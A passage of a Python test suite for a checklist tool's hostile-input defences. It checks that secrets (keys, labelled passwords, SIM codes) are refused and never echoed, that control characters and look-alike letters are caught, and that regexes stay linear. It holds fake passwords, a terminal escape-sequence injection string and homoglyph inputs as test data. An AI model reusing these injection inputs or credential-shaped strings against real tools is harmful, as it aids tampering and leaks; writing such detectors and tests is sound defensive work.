    """A key anywhere, or a code typed by hand into an item's field (judged there as an answer is): no view prints."""
    for old, new, key in (("used by the tests.", "used by the tests, K 465b5ce8b199b49faa5f0a2ee238a6bc.", "465b5ce8"),
                          ("  - **Form:** a number.", "  - **Form:** a number. Door code 4821.", "4821")):
        with Sandbox(swap(old, new)) as box:
            for command in (("items", "--format", "csv"), ("status",), ("form",)):
                result = box.run(*command)
                assert result.returncode == 1 and key not in result.stdout and "[secret] this looks like" in \
                    result.stderr and "nothing printed" in result.stderr, (command, result)


# ---------------------------------------------------------------- the seventh hostile-input review (D1, D3, D6 to D12)

def packet(box, *args):
    """An `items --format csv` export of the sandbox's checklist: (header, rows) as csv reads it."""
    rows = list(csv.reader(io.StringIO(box.run("items", *args, "--format", "csv").stdout.lstrip("\ufeff"))))
    return rows[1], rows[2:]


def filled(header, rows, answers):
    """The packet as CSV text with these answers ({id: text}) typed into its `answer` column."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([row[:header.index("answer")] + [answers.get(row[0], "")] for row in rows])
    return out.getvalue()


def unmatched(iid, now):
    """The message of a row whose 'recorded' cell is empty or missing where an answer is recorded (N8)."""
    return (f"{iid}: its 'recorded' cell does not match the answer recorded now ('{now}'); put that answer in its "
            "'recorded' cell to replace it")


def stale(iid, now):
    """The message of a row whose 'recorded' cell is not the answer recorded now."""
    if now is None:
        return (f"{iid}'s recorded answer changed since this sheet was exported (now: none); export again, or clear "
                "its 'recorded' cell to record this answer anyway")
    return (f"{iid}'s recorded answer changed since this sheet was exported (now: '{now}'); export again, or put that "
            "answer in its 'recorded' cell to replace it anyway")


@test
def h7_d8_a_stale_packet_is_refused_even_with_replace():
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,Germany\nLIC-1,no\n")
        header, rows = packet(box)
        line = {row[0]: k for k, row in enumerate(rows, 2)}          # the CSV line of each item's row
        box.accepted('id,answer,recorded\nREQ-3,"Germany, France (newer)",Germany\n', "--replace")
        sheet = filled(header, rows, {"REQ-3": "Spain", "REQ-4": "channels 1 to 11"})
        for flags in ((), ("--replace",)):                            # nothing is written, REQ-4's row neither
            refused_exactly(box, sheet, f"{line['REQ-3']}: {stale('REQ-3', 'Germany, France (newer)')}", flags=flags)
        # the recorded cell set to the answer now, however it is spaced or cased: the row replaces it
        rows[line["REQ-3"] - 2][header.index("recorded")] = "  Germany, France (newer) "
        rows[line["LIC-1"] - 2][header.index("recorded")] = "NO"
        text = box.accepted(filled(header, rows, {"REQ-3": "Spain", "LIC-1": "yes; counsel says so"}), "--replace")
        assert "**Answer:** Spain" in text and "**Answer:** `yes`; counsel says so" in text, text
        # an empty recorded cell with an answer recorded now: a conflict under --replace only (without it, as before)
        header, rows = packet(box)
        line = {row[0]: k for k, row in enumerate(rows, 2)}
        rows[line["REQ-3"] - 2][header.index("recorded")] = ""
        sheet = filled(header, rows, {"REQ-3": "Italy"})
        refused_exactly(box, sheet, f"{line['REQ-3']}: {unmatched('REQ-3', 'Spain')}", flags=("--replace",))
        refused_exactly(box, sheet, f"{line['REQ-3']}: REQ-3 already has a different answer ('Spain'); put that "
                                    "answer in its 'recorded' cell and use --replace to overwrite it")   # H53-23
        # an answer removed by hand since the export: the row is stale too
        header, rows = packet(box)
        line = {row[0]: k for k, row in enumerate(rows, 2)}
        box.doc.write_text(box.doc.read_text(encoding="utf-8").replace("  - **Answer:** Spain\n", "").replace(
            '- [x] <a id="req-3">', '- [ ] <a id="req-3">'), encoding="utf-8")
        refused_exactly(box, filled(header, rows, {"REQ-3": "Italy"}), f"{line['REQ-3']}: {stale('REQ-3', None)}")
        # a sheet without a recorded column (typed by hand) records new answers, and replaces none (H20-1)
        assert "**Answer:** Italy" in box.accepted("id,answer\nREQ-3,Italy\n")
        refused_exactly(box, "id,answer,note\nREQ-3,Malta,\n", "2: REQ-3 already has a different answer; to "
                        "replace it, put that answer in a 'recorded' column (an export has one: items --format csv), so that no answer "
                        "is replaced unseen", flags=("--replace",))
        assert "**Answer:** Malta" in box.accepted("id,answer,note,recorded\nREQ-3,Malta,,Italy\n", "--replace")
        # a 'recorded' header spelled with look-alike letters, or given twice, is refused like 'answer'
        refused_exactly(box, "id,answer,r\u0435c\u043erded\nREQ-3,x,\n", "1: the header name 'r\u0435c\u043erded' "
                        "reads 'recorded' but is not spelled in plain letters; retype it")
        refused_exactly(box, "id,answer,recorded,recorded\nREQ-3,x,,\n",
                        "1: the header names 'recorded' more than once")


@test
def h7_d10_long_hand_edited_lines_are_checked_in_linear_time():
    """30 kB lines of link openings, of dashes in a Note, and of spaces and of tabs under an item: three regexes
    were quadratic there (LINK, WORD, LOOSE_FIELD: at 100 kB about 7 s, 2 min and 1 min each); parsing, every rule
    and the word count over all four now take a fraction of a second (the Note, too long to be judged for secret
    material, is named by the secret rule)."""
    note = "  - **Form:** a number."
    text = swap(note, note + "\n  - **Note:** " + "-" * 30000 + "\n" + " " * 30000 + "x\n" + "\t" * 30000 + "x")
    text = swap("used by the tests.", "used by the tests.\n\n" + "[x](#" * 6000 + "\n", text)
    def checked():
        doc = cl.parse(text)
        sum(cl.words(line) for line in doc.lines)
        return {d.code for d in cl.run_rules(doc)}
    with deadline(10):
        assert quick(checked, 0.8) == {"item-format", "secret"}                # the three lines under REQ-3


@test
def h7_d3_letters_that_look_latin_are_read_as_latin_by_the_key_test():
    cyrillic = K.translate(str.maketrans("ace", "\u0430\u0441\u0435"))           # Cyrillic а, с, е for a, c, e
    greek = K.upper().translate(str.maketrans("ABE", "\u0391\u0392\u0395"))       # Greek Α, Β, Ε for A, B, E
    secret_refused(HEX_KEY, "K " + cyrillic, "OPc " + greek, "K " + K[:16] + "\u0430" + K[17:])
    assert cl.secret_in(K64.translate(str.maketrans("cZ", "\u0441\u0396"))) == BASE64
    accepted_as_text("\u0421\u0435\u0440\u0432\u0435\u0440 \u0432 \u041c\u043e\u0441\u043a\u0432\u0435: "
                     "2 \u0441\u0430\u0439\u0442\u0430",                  # Russian: 'a server in Moscow: 2 sites'
                     "\u03a4\u03bf \u03ba\u03ad\u03bd\u03c4\u03c1\u03bf \u03b4\u03b5\u03b4\u03bf\u03bc"
                     "\u03ad\u03bd\u03c9\u03bd \u03c3\u03c4\u03b7\u03bd \u0391\u03b8\u03ae\u03bd\u03b1")   # Greek


PASSWORD = "a password or token after its label ('password:', 'token=' and the like)"


@test
def h7_d6_labelled_passwords_and_tokens_and_user_password_at_host_are_refused():
    secret_refused(PASSWORD, "admin password: Tr0ub4dor&3xyz", "api token: 3f9a1c2e7b", "passwd=hunter22",
                   "pwd: s3cr3t!!", "API key: AbC123xyz", "secret: Xy7#kk9q", "token = 9f8e7d6c", "DB_PASSWORD=hunter22",
                   "Wi-Fi passphrase: 'Gr33n-Fields-7'", "x-api-key: 7f3a9b2c1d")
    secret_refused("a password in an address (user:password@host)", "ssh alice:Hunter2pw@git.example.org",
                   "scp fw.bin ops:pw@10.0.0.1.example:/tmp")
    accepted_as_text("password policy: 12 characters minimum", "token bucket, 100 requests a second",
                     "password: changed every 90 days", "secret: none", "API key: kept in Vault (path kv/prod/amf)",
                     "token: see OPS-1234", "API token: OPS-1234", "password: https://vault.example/item/12",
                     "password: x", "secret: kubernetesSecretName", "<mailto:alice@example.org>",
                     "meet at 10:30@hq.example.org", "sip:alice@example.org and git@github.com:org/repo.git")


@test
def h7_d7_an_id_cell_that_looks_like_a_key_is_never_echoed():
    with Sandbox() as box:
        refused_exactly(box, f"id,answer\n{K},Germany\nREQ-33,x\nRequirement three of the list,x\n\u001b[31m,x\n",
                        "2: '465…' is not an item of the checklist",
                        "3: 'REQ-33' is not an item of the checklist",
                        "4: 'Requirem…' is not an item of the checklist",
                        "5: '\\u001b[31m' is not an item of the checklist")
        given = box.csv(f"id,answer\nK {K[:16]} and {K[16:]},Germany\n", "given.csv")
        for view in ("items", "status", "form"):
            result = box.run(view, "--answers", given)
            assert result.returncode == 1 and K[8:] not in result.stderr and K[16:] not in result.stderr and \
                "given.csv:2: 'K 4…' is not an item of the checklist" in result.stderr, (view, result)


@test
def h7_d1_a_key_cut_by_words_or_labels_is_a_key():
    secret_refused(HEX_KEY, f"K1={K[:16]} K2={K[16:]}", f"K {K[:16]} and {K[16:]}",
                   f"first half {K[:16]}; second half {K[16:]}", "K is " + " then ".join(pairs(K, 8)),
                   f"OPc part one {K[:12]}, part two {K[12:]}", f"TUAK K {K256[:32]} and then {K256[32:]}")
    accepted_as_text("fixed in commits 3f2a1bc8, 7d9e0f12, a4b5c6d3 and 8e9f0a14",
                     "fixed in commits 3f2a1bc8, 7d9e0f12, a4b5c6d3, 8e9f0a14, 1234abcd, 9876fedc, 0a1b2c3d and 4d5e6f70",
                     "radio unit serials 21A8F3C2 and 21A8F3C3, then 21A8F3C4 and 21A8F3C5",
                     "IMSIs 001010000000001 and 001010000000002, dates 20261201 and 20270115",
                     f"see https://git.example/o/r/commit/{H40[:8]} and https://git.example/o/r/commit/{H40[8:16]} "
                     f"and https://git.example/o/r/commit/{H40[16:24]} and https://git.example/o/r/commit/{H40[24:32]}")


@test
def h7_d12_a_defect_already_in_the_document_is_not_blamed_on_the_answer():
    cases = (("The number of sites TODO.", "sites TODO", "12 sites", "[placeholder] placeholder 'TODO' left in the text"),
             ("The number of [sites](#nowhere).", "#nowhere", "12 sites TBD",   # what follows from it is left out
              "[anchor] #nowhere matches no heading or <a id>"))
    for broken, mark, answer, defect in cases:
        with Sandbox(swap("**REQ-3** The number of sites.", f"**REQ-3** {broken}")) as box:
            line = line_of(box.doc.read_text(encoding="utf-8"), mark)
            before = box.doc.read_bytes()
            result = box.run("import", box.csv(f"id,answer\nREQ-3,{answer}\n"))
            assert (result.returncode, result.stderr) == (1, f"{box.doc}:{line}: {defect}\n{box.doc} not changed: "
                                                             f"{box.doc} already has problems here; run 'check' "
                                                             "first.\n"), result
            assert box.doc.read_bytes() == before
    with Sandbox(swap("**REQ-4** The radio channels to support.", "**REQ-4** The radio [channels](#nowhere).")) as box:
        line = line_of(box.doc.read_text(encoding="utf-8"), "#nowhere")
        before = box.doc.read_bytes()
        # a problem elsewhere; an Answer's TBD is none (H15-3)
        result = box.run("import", box.csv("id,answer\nREQ-3,12 sites TBD\n"))
        assert (result.returncode, result.stderr) == (1, f"{box.doc}:{line}: [anchor] #nowhere matches no heading or "
                                                         f"<a id>\n{box.doc} not changed: it fails its own check; run "
                                                         "'check' and fix it first.\n"), result
        assert box.doc.read_bytes() == before
    with Sandbox() as box:                            # a Markdown file that is no checklist: never the answer's fault
        notes = box.dir / "notes.md"
        notes.write_text("# Notes\n\n- [ ] REQ-3 thing\n", encoding="utf-8")
        result = run_main("import", box.csv("id,answer\nREQ-3,Germany\n"), "--file", notes, cwd=box.dir)
        assert result.returncode == 1 and "this answer" not in result.stderr and result.stderr.endswith(
            f"{notes} not changed: {notes} already has problems here; run 'check' first.\n"), result


@test
def h7_d11_a_paragraph_after_an_answer_is_flagged_and_blocks_a_replace():
    old = "  - **Form:** a number.\n"
    text = swap('- [ ] <a id="req-3">', '- [x] <a id="req-3">',
                swap(old, old + "  - **Unblocks:** sizing.\n  - `plan` · requester\n  - **Answer:** 4 sites\n\n"
                     "    an old second paragraph\n", swap("  - **Unblocks:** sizing.\n  - `plan` · requester\n", "")))
    with Sandbox(text) as box:
        line = line_of(text, "an old second paragraph")
        result = box.run("check")
        assert (result.returncode, result.stdout) == (1, f"{box.doc}:{line}: [item-continuation] REQ-3: this indented "
                                                         "text after a blank line renders as part of the item (of its "
                                                         "Answer), but is none of its fields; unindent it or delete "
                                                         "it\n"), result
        before = box.doc.read_bytes()
        result = box.run("import", box.csv("id,answer,recorded\nREQ-3,12 sites,4 sites\n"), "--replace")
        assert result.returncode == 1 and result.stderr.endswith(
            f"{box.doc} not changed: {box.doc} already has problems here; run 'check' first.\n"), result
        assert box.doc.read_bytes() == before


# ---------------------------------------------------------------- the eighth hostile-input review

# N5_ACCEPTED, N3_REFUSED, H9_REFUSED and H9_ACCEPTED are in support.py, as test_form.py's parity corpus holds
# them too


@test
def h8_n5_security_answers_after_a_password_label_are_not_passwords():
    """An algorithm, protocol or scheme name, a path, or several words after 'password:' is no password."""
    accepted_as_text(*N5_ACCEPTED)
    with Sandbox() as box:
        before = box.doc.read_bytes()
        result = box.run("import", box.csv('id,answer\nREQ-3,"passwords: SHA256-hashed and salted"\n'))
        assert result.returncode == 0 and box.doc.read_bytes() != before, result


@test
def h8_n3_made_up_passwords_after_more_labels_are_refused():
    """A word glued to a number, a lone long number, and the labels 'pw', 'psk', 'passcode', 'credentials' and the
    German, French, Spanish and Portuguese words, with ':', '=' or ' - ', are refused as exactly a labelled password."""
    secret_refused(PASSWORD, *N3_REFUSED)


@test
def h8_n2_a_renamed_recorded_column_is_still_the_recorded_column():
    """A header whose name starts with 'recorded' ('recorded answer', 'Recorded at export') is the export's
    'recorded' column: a stale row under it is refused; two such columns are refused as ambiguous."""
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,Germany\n")
        box.accepted('id,answer,recorded\nREQ-3,"Germany, France (newer)",Germany\n', "--replace")
        for name in ("recorded answer", "Recorded at export", " RECORDED_v1 "):
            refused_exactly(box, f"id,answer,{name}\nREQ-3,Spain,Germany\n",
                            f"2: {stale('REQ-3', 'Germany, France (newer)')}", flags=("--replace",))
        refused_exactly(box, "id,answer,recorded,recorded answer\nREQ-3,Spain,Germany,Germany\n",
                        "1: the header names more than one column that reads 'recorded' ('recorded', "
                        "'recorded answer'); keep one", flags=("--replace",))
        text = box.accepted('id,answer,Recorded at export\nREQ-3,Spain,"Germany, France (newer)"\n', "--replace")
        assert "**Answer:** Spain" in text, text


@test
def h8_n8_a_missing_or_empty_recorded_cell_is_not_called_an_old_export():
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,Germany\n")
        for sheet in ("id,answer,recorded\nREQ-3,Spain\n", "id,answer,recorded\nREQ-3,Spain,\n",
                      "id,answer,recorded\nREQ-3,Spain,  \n"):
            refused_exactly(box, sheet, f"2: {unmatched('REQ-3', 'Germany')}", flags=("--replace",))
        refused_exactly(box, "id,answer,recorded\nREQ-3,Spain,Italy\n", f"2: {stale('REQ-3', 'Germany')}",
                        flags=("--replace",))


@test
def h8_n7_control_characters_in_the_checklist_are_flagged_and_never_printed_raw():
    text = swap("  - **Unblocks:** sizing.", "  - **Unblocks:** sizing\x00 \x1b]0;pwned\x07 \x9b31m.")
    with Sandbox(text) as box:
        line = line_of(text, "pwned")
        result = box.run("check")
        assert (result.returncode, result.stdout) == (1, f"{box.doc}:{line}: [control-character] a control character "
                                                         "(U+0000, U+001B, U+0007) in the line; delete it\n"), result
        for fmt in ("csv", "json", "md"):
            out = box.run("items", "--format", fmt).stdout
            assert "pwned" in out and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out), (fmt, out)
        listed = json.loads(box.run("items", "--format", "json").stdout)["items"]     # JSON's escapes read back
        assert any("sizing\x00 \x1b]0;pwned\x07 \x9b31m." in str(v) for r in listed for v in r.values()), listed



# ---------------------------------------------------------------- the ninth hostile-input review


@test
def h10_1_names_versions_releases_quantities_and_placeholders_after_a_label_are_recorded():
    """A first token that is a version or 3GPP release, a quantity with a unit, a placeholder, a public stack's or
    tool's name, or names joined by '/' or '+' is no password. Made-up passwords near these shapes stay refused."""
    accepted_as_text(*H10_ACCEPTED)
    secret_refused(PASSWORD, *H10_REFUSED)
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,credentials: Open5GS defaults changed at install\n')
        assert "credentials: Open5GS defaults changed at install" in text


@test
def h11_1_credentials_judges_its_first_token_as_password_does():
    """After 'credentials', 'credential' and FOO_CREDENTIALS=, the first token is judged whatever follows it; a
    first token that is a name, a release or joined names stays a description."""
    refused = [v for v in H11_REFUSED if "credential" in v.lower()]
    assert len(refused) >= 9
    secret_refused(PASSWORD, *refused)
    for value in refused:
        assert cl.secret_in(value.replace("credentials", "password").replace("credential", "password")
                            .replace("CREDENTIALS", "PASSWORD")) == PASSWORD, value
    accepted_as_text(*H11_ACCEPTED[:4])
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,"credentials: Ki/OPc in the HSM, never exported"\n')
        assert "credentials: Ki/OPc in the HSM, never exported" in text


@test
def h11_2_a_tool_name_glued_to_digits_or_symbols_a_long_version_or_a_lower_case_quantity_key_is_judged():
    """A stack's, tool's or algorithm's name exempts only as the whole token or a whole '/'- or '+'-joined segment;
    a version's major has at most 3 digits; a quantity's key is ALL-CAPS and at most 6 letters."""
    secret_refused(PASSWORD, "password: Open5GS-2024", "password: Magma2024", "password: Kubernetes1!",
                   "password: Falcon-99", "psk: Dilithium5", "password: Ki7q-Sp4x.Ts9z", "password: rel17x-sk42q",
                   "password: v8472.91", "password: hunter=15min", "password: Open5GS2024!", "password: ki2024",
                   "token: TTLTTLX=15min", "secret: SoftHSM2")
    accepted_as_text("password: Open5GS", "credentials: Open5GS/Magma", "tokens: Keycloak+Vault", "token: TTL=15min",
                     "token: v123.4.5-rc1", "secrets: 1h/24h", "PSK: 5GHz-only SSID", "password: RSA-2048",
                     "tokens: OpenSSL3.0", "secret: Open5GS-2.7.1")


@test
def h11_3_a_placeholder_is_a_name_of_letters_and_underscores():
    """'${AMF_DB_PASSWORD}', '$VAR', '{{ var }}', '%VAR%' are placeholders; a name with digits not right after an
    underscore is judged ('$HUNTER22', '${K7pQ2xLm9}', '{{K7pQ2xLm9}}', '%K7PQ2XLM9Z%')."""
    secret_refused(PASSWORD, "password: $HUNTER22", "password: ${K7pQ2xLm9}", "password: {{K7pQ2xLm9}}",
                   "password: %K7PQ2XLM9Z%", "password: {{db_pass1}}", "password: $K7PQ2XLM9Z")
    accepted_as_text("password: ${AMF_DB_PASSWORD}", "password: $VAR", "password: {{ var }}", "password: %VAR%",
                     "password: $DB_PASSWORD_2", "password: {{db_pass_1}}", "password: {{ .Values.db }}",
                     "password: {{Values.db_password}}")


def took(line, runs):
    """The best of `runs` times secret_in takes to find no secret in a line, its cache cleared each time."""
    times = []
    for _ in range(runs):
        with cold_caches():
            started = time.perf_counter()
            assert cl.secret_in(line) is None, line[:20]
            times.append(time.perf_counter() - started)
    return min(times)


@test
def h11_4_the_label_scan_is_linear_in_line_length_whatever_the_number_of_labels():
    """A line of 8,000 characters made of labels ('credentials: x ' and the like) is read in about four times the
    time of one of 2,000 (at most eight times; measured again, the better of two runs each, when a loaded machine
    makes the first measurement miss); quadratic in 'credentials' labels, it took 0.4 s for 150,000 characters and
    27 s for 1.2 MB."""
    for seed in ("credentials: x ", "credential=x "):
        short, long = ((seed * (length // len(seed) + 1))[:length] for length in (2_000, 8_000))
        if took(long, 1) >= 8 * took(short, 1) + 0.05:
            assert took(long, 2) < 8 * took(short, 2) + 0.05, seed


@test
def h11_5_a_cell_over_the_csv_field_limit_is_named_as_the_answer_cap():
    """A cell over the csv module's field limit (131,072 characters) is refused with the row and the 2,000-character
    answer cap, not as 'not valid CSV: field larger than field limit'."""
    problem = cl.long_cell(csv.field_size_limit())
    assert "2,000" in problem and "131,072" in problem and "not valid CSV" not in problem
    with Sandbox() as box:
        refused_exactly(box, "id,answer,notes\nRES-1,short," + "a" * 200_000 + "\n", f"2: {problem}")
        refused_exactly(box, "id,answer\nREQ-4,short\nREQ-3," + "a" * 200_000 + "\n", f"3: {problem}")


@test
def h11_6_pass_is_arrows_label_a_password_too():
    """'pass:', 'pass=', 'password is X', 'password is: X', 'password -> X' and 'password => X' are labels; 'passport',
    'bypass', 'password isolation' and a description after 'is' are not."""
    secret_refused(PASSWORD, *H11_6_REFUSED)
    accepted_as_text(*H11_6_ACCEPTED)


@test
def h9_1_a_labelled_password_followed_by_more_words_is_refused():
    """The first token after the label is judged, whatever follows it (words, ' - ', an en or em dash), and a
    bare '/X' is judged as X."""
    secret_refused(PASSWORD, *H9_REFUSED)
    with Sandbox() as box:
        given = box.csv("id,answer\nREQ-3,root password: K7#pQ2!xLm9 until go-live\n", "mine.csv")
        for view in (("form", "--answers", given, "-o", box.dir / "p.html"), ("items", "--answers", given, "--format",
                                                                           "csv"), ("status", "--answers", given)):
            result = box.run(*view)
            assert result.returncode == 1 and "K7#pQ2" not in result.stdout + result.stderr, (view, result)
        assert not (box.dir / "p.html").exists() or "K7#pQ2" not in (box.dir / "p.html").read_text(encoding="utf-8")


@test
def h9_2_3_4_quantities_words_in_any_script_and_scheme_names_after_a_label_are_no_passwords():
    accepted_as_text(*H9_ACCEPTED)
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,"Passwort: verschl\u00fcsselt; credentials: 802.1X"\n')
        assert "Passwort: verschl\u00fcsselt; credentials: 802.1X" in text


# ---------------------------------------------------------------- the twelfth hostile-input round (H12-1 to H12-3,
# H12-5, H12-6)

SIM_CODE_KIND = "a SIM card's access code or OTA key after its label ('ADM1:', 'PIN:', 'PUK:', 'OTA key:' and the like)"


def secret_judged(kind, *values):
    """Each value is refused as exactly `kind` of secret, with import's message (text_problems), in this process:
    secret_refused() without a subprocess for each (a few imports of each test check the whole path)."""
    assert [v for v in values if cl.secret_in(v) != kind or cl.text_problems(v) != [refusal(kind, v)]] == []


@test
def h12_1_a_name_joined_to_numbers_followed_by_words_is_recorded():
    """After a label, a first token followed by words on its line that joins a name to numbers ('srsRAN_4G
    defaults', 'Ubuntu22.04 images', 'Q3-2025 rotation') is a name, not a password."""
    accepted_as_text(*H12_NAMES)
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,"credentials: srsRAN_4G defaults, SoftHSM2 tokens"\n')
        assert "**Answer:** credentials: srsRAN_4G defaults, SoftHSM2 tokens" in text


@test
def h12_1_symbols_interleaving_a_lone_token_or_a_password_label_stay_judged_and_the_token_is_quoted():
    """'K7#pQ2!xLm9 rotated monthly', 'K7pQ2xLm9 rotated', 'credentials: srsRAN_4G' alone and 'password: Welcome-2024,
    rotated yearly' are refused, naming the judged token and its label."""
    secret_judged(PASSWORD, *H12_STILL_JUDGED)
    assert cl.text_problems("credentials: srsRAN_4G") == [
        f"'srs…' (9 characters) after 'credentials:' looks like a password; {cl.CONFIDENTIAL}"]
    with Sandbox() as box:
        refused_exactly(box, 'id,answer\nREQ-3,credentials: K7#pQ2!xLm9 rotated monthly\n'
                             'DEL-1,"password: Welcome-2024, rotated yearly"\n',
                        f"2: REQ-3: 'K7#…' (11 characters) after 'credentials:' looks like a password; {cl.CONFIDENTIAL}",
                        f"3: DEL-1: 'Wel…' (12 characters) after 'password:' looks like a password; {cl.CONFIDENTIAL}")


@test
def h12_2_a_quoted_label_and_an_upper_case_environment_name_are_labels():
    """'"password": "..."', "'token' = '...'", 'PGPASSWORD=...', 'DBPASS=...' label a password; the label is quoted
    without its quotes."""
    secret_judged(PASSWORD, *H12_LABELS)
    accepted_as_text(*H12_NOT_LABELS)
    with Sandbox() as box:
        refused_exactly(box, 'id,answer\nREQ-3,"""password"": ""K7#pQ2!xLm9"""\nDEL-1,PGPASSWORD=K7pQ2xLm9\n',
                        f"2: REQ-3: 'K7#…' (11 characters) after 'password:' looks like a password; {cl.CONFIDENTIAL}",
                        f"3: DEL-1: 'K7p…' (9 characters) after 'PGPASSWORD=' looks like a password; {cl.CONFIDENTIAL}")


@test
def h12_3_sim_access_codes_and_ota_keys_after_their_labels_are_refused():
    """ADM, PIN, PUK, KIc, KID, KIK and 'OTA key' label a SIM code: 4 digits or more, or 16 hex digits or more."""
    secret_judged(SIM_CODE_KIND, *H12_SIM_REFUSED)
    accepted_as_text(*H12_SIM_ACCEPTED)
    with Sandbox() as box:
        refused_exactly(box, 'id,answer\nREQ-3,ADM1: 84729135\n', f"2: REQ-3: this looks like {SIM_CODE_KIND}; "
                                                               f"{cl.CONFIDENTIAL}")


@test
def h12_5_a_percent_placeholder_is_not_percent_decoded():
    """'%DB_PASSWORD%' is a placeholder, not the byte 0xDB and 'B_PASSWORD%'; a percent-encoded password is still
    decoded."""
    accepted_as_text(*H12_PLACEHOLDERS)
    assert cl.percent_decoded("%DB_PASSWORD% %41%42") == "%DB_PASSWORD% AB"
    assert cl.secret_in("password: %4B7%23pQ2%21xLm9") == PASSWORD and cl.secret_in("password: %AB%CD%EF") == PASSWORD
    with Sandbox() as box:
        text = box.accepted("id,answer\nREQ-3,password: %DB_PASSWORD%\n")
        assert "**Answer:** password: %DB_PASSWORD%" in text


@test
def h12_6_an_answer_typed_in_the_recorded_column_is_refused():
    """A row with no answer whose 'recorded' cell holds one, where the file records none, is refused with a message;
    nothing is written."""
    with Sandbox() as box:
        refused_exactly(box, "id,answer,recorded\nREQ-3,,France\n",
                        "2: REQ-3: the recorded column is read-only; type the answer in 'answer'", flags=("--replace",))
        result = box.run("import", box.csv("id,answer,recorded\nREQ-3,,\n"))
        assert result.returncode == 0 and "nothing to record" in result.stdout, result


# ---------------------------------------------------------------- code review 127 (B1 to B4)


@test
def r13_b1_check_reports_a_recorded_labelled_password_once_and_never_echoes_it():
    """A recorded Answer holding a labelled password gets the `secret` defect only: no `answer` defect, which would
    name the token's first characters and length in check's output."""
    lines = FIXTURE.split("\n")
    k = next(n for n, text in enumerate(lines) if text.startswith('- [ ] <a id="req-3"></a>'))
    lines[k] = lines[k].replace("- [ ]", "- [x]", 1)
    end = next(n for n in range(k + 1, len(lines)) if not lines[n].startswith("  "))
    lines.insert(end, "  - **Answer:** root password: K7pQ2xLm9")
    found = [(d.line, d.code, d.message) for d in cl.run_rules(cl.parse("\n".join(lines)))]
    assert [d for d in found if d[1] in ("answer", "secret")] == \
        [(end + 1, "secret", f"this looks like {PASSWORD}; {cl.CONFIDENTIAL}")], found
    assert not [d for d in found if "K7p" in d[2]], found


@test
def r13_b2_after_a_password_label_a_token_without_separators_stays_judged_when_words_follow():
    """After a password's own label ('password', 'pwd', 'passphrase', 'PSK', 'PGPASSWORD'), 'Hunter22x' and
    'Welcome2024' are refused with the token named, though words follow; after 'credentials:' or 'token:' such a
    name followed by words is recorded ('Keycloak24 realm': r13_b4), but for a word glued to a year (h13_1)."""
    secret_judged(PASSWORD, *R13_PASSWORDS)
    assert cl.text_problems("PSK: Welcome2024 on the guest SSID") == [
        f"'Wel…' (11 characters) after 'PSK:' looks like a password; {cl.CONFIDENTIAL}"]


@test
def r13_b3_a_sim_code_is_cut_at_an_en_or_em_dash():
    """'PUK: 84729135\u2014keep it safe' is refused as 'PUK: 84729135 keep it safe' is; import refuses such rows
    with the messages of text_problems."""
    secret_judged(SIM_CODE_KIND, *R13_SIM_REFUSED)
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,password: Hunter22x for the WebUI\nDEL-1,PSK: Welcome2024 on the guest "
                             "SSID\nDEL-2,PUK: 84729135\u2014keep it safe\n",
                        f"2: REQ-3: 'Hun…' (9 characters) after 'password:' looks like a password; {cl.CONFIDENTIAL}",
                        f"3: DEL-1: 'Wel…' (11 characters) after 'PSK:' looks like a password; {cl.CONFIDENTIAL}",
                        f"4: DEL-2: this looks like {SIM_CODE_KIND}; {cl.CONFIDENTIAL}")


@test
def r13_b4_a_jwt_key_id_and_a_test_verdict_are_no_secrets():
    """KIc, KID, KIK and 'OTA key' take 16 hex digits or more ('JWT kid: 20240601' is recorded); a bare 'pass' labels
    a password only before ':' or '=' ('Interop test: pass - 20241105' is recorded); names after descriptive labels
    stay names."""
    accepted_as_text(*R13_ACCEPTED)
    assert [cl.secret_in(t) for t in ("KIc = 0123456789abcdef", "pass: K7#pQ2!xLm9", "PASS=hunter22")] == \
        [SIM_CODE_KIND, PASSWORD, PASSWORD]
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-3,"JWT kid: 20240601; Interop test: pass - 20241105"\n')
        assert "**Answer:** JWT kid: 20240601; Interop test: pass - 20241105" in text


@test
def h13_1_a_word_glued_to_a_year_is_judged_after_any_label_though_words_follow():
    """'credentials: Summer2024 for the WebUI', 'token: Dragon2024 for CI': the commonest weak password is never
    taken for a product's name; import names it by its start and length."""
    secret_judged(PASSWORD, *H13_WORD_YEAR)
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,credentials: Summer2024 for the WebUI\n",
                        f"2: REQ-3: 'Sum…' (10 characters) after 'credentials:' looks like a password; "
                        f"{cl.CONFIDENTIAL}")


@test
def h13_3_a_routing_answer_of_many_tokens_is_checked_in_linear_time():
    """A hand-edited routing answer of 20,000 distinct tokens is checked in a short budget (counting each token
    against the whole list took 11 s)."""
    doc = cl.parse(README.read_text(encoding="utf-8"))
    iid, declared = next((i, d) for i, d in doc.routing().items() if d.kind == "many")
    tokens = [f"t{k}" for k in range(20_000)]
    assert quick(lambda: cl.answer_problems(iid, tokens, declared), 1)



# ---------------------------------------------------------------- the fourteenth hostile-input round (H14-1, H14-3 to
# H14-7)

@test
def h14_1_a_weak_password_word_glued_to_digits_is_judged_after_any_label_though_words_follow():
    """'credentials: Password1 for all lab hosts', 'API key: Dragon99 for CI', 'credentials: SUMMER2024 for the
    WebUI' (no ticket ID), 'credentials: Passw0rd for everything': judged; 'credentials: MongoDB6 users' and other
    products' names stay names. The page judges the same (the parity corpus in test_form.py holds them)."""
    secret_judged(PASSWORD, *H14_WEAK)
    accepted_as_text(*H14_NAMES)
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,credentials: Password1 for all lab hosts\n",
                        f"2: REQ-3: 'Pas…' (9 characters) after 'credentials:' looks like a password; "
                        f"{cl.CONFIDENTIAL}")


@test
def h14_3_an_answer_that_only_puts_the_answer_off_is_refused_on_a_free_text_item():
    """'pending', 'tbd', 'to be confirmed', 'n/a', '?' on an item that takes free text: refused with one message
    (the page gives the same: test_form.py's parity corpus); a routing item keeps its declared `undecided`
